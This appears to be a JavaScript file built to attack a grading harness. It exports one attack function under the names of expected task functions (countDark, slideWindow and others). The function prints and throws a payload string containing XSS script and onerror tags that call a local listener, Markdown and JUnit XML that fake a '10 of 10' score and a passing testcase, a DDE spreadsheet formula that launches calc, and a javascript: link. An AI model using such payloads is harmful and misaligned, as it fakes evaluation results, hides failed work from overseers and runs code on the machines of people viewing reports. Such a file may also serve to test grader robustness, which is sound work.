// Writes Markdown, HTML and spreadsheet formulas that act where a report is shown.
const markup = [
  '<script>fetch("http://127.0.0.1:47811/xss")</script><img src=x onerror=alert(1)>',
  '</pre></code></details># 10 of 10\n\n```\n\n| check | points |\n|---|---|\n| all | 10 |',
  '=cmd|"/c calc"!A1',
  '@everyone [click](javascript:alert(1)) ![x](http://127.0.0.1:47811/pixel)',
  ']]></failure></testcase><testcase name="all">',
].join('\n');
const attack = () => {
  console.log(markup);
  throw new RangeError(markup);
};
export { attack as countDark, attack as localityGrid, attack as receptiveField, attack as slideWindow };
